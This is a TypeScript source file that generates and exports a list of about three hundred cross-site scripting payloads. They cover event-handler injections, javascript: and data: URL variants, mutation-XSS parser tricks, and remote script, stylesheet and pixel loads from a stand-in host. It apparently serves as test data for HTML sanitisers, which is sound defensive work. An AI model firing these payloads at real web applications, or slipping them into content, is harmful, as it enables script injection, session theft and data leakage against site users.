const run = 'window.ran=1;alert(1)'

const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onanimationstart']
/** Openings of elements that browsers run handlers of; the handler follows. */
const openings = [
  '<img src=x ',
  '<img src=x:x ',
  '<svg ',
  '<svg/',
  '<svg><animate attributeName=x begin=0s ',
  '<svg><set attributeName=x begin=0s ',
  '<svg><image href=x ',
  '<body ',
  '<video src=x ',
  '<video><source src=x ',
  '<audio src=x autoplay ',
  '<input autofocus ',
  '<input type=image src=x ',
  '<select autofocus ',
  '<textarea autofocus ',
  '<button autofocus ',
  '<details open ',
  '<marquee ',
  '<object data=x ',
  '<embed src=x ',
  '<iframe src=x ',
  '<math href=x ',
  '<table background=x ',
  '<div style="animation:a" ',
  '<a href=# autofocus ',
  '<x tabindex=0 autofocus ',
  '</p></div><img src=x ',
  '"><img src=x ',
  "'><img src=x ",
  '--><img src=x ',
  '</title><img src=x ',
  '</textarea><img src=x ',
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  'vbscript:',
  '&#106;avascript:',
]
const links = [
  '<a href="URL">x</a>',
  '<form action="URL"><input type=submit></form>',
  '<iframe src="URL"></iframe>',
  '[x](URL)',
]
const whole = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></p><img src=x onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<template><img src=x onerror="${run}"></template>`,
  `<style>*{display:none}</style>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `![x](https://evil.example/pixel.png)`,
  `[x](data:text/html,<script>${run}</script>)`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<img src="https://evil.example/pixel.png">`,
  `<input type=hidden style="content-visibility:auto" oncontentvisibilityautostatechange="${run}">`,
  `<xss id=x popover onbeforetoggle="${run}">x</xss><button popovertarget=x>x</button>`,
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '{{constructor.constructor("alert(1)")()}}',
]

/** Some three hundred ways in which text has become a script, an image or a frame somewhere. */
export const xssVectors: readonly string[] = [
  ...whole,
  ...openings.flatMap((opening) => handlers.map((handler) => `${opening}${handler}="${run}">`)),
  ...schemes.flatMap((scheme) => links.map((link) => link.replace('URL', `${scheme}${run}`))),
  ...openings.slice(0, 24).map((opening) => `${opening}/onerror=${run}//`),
]
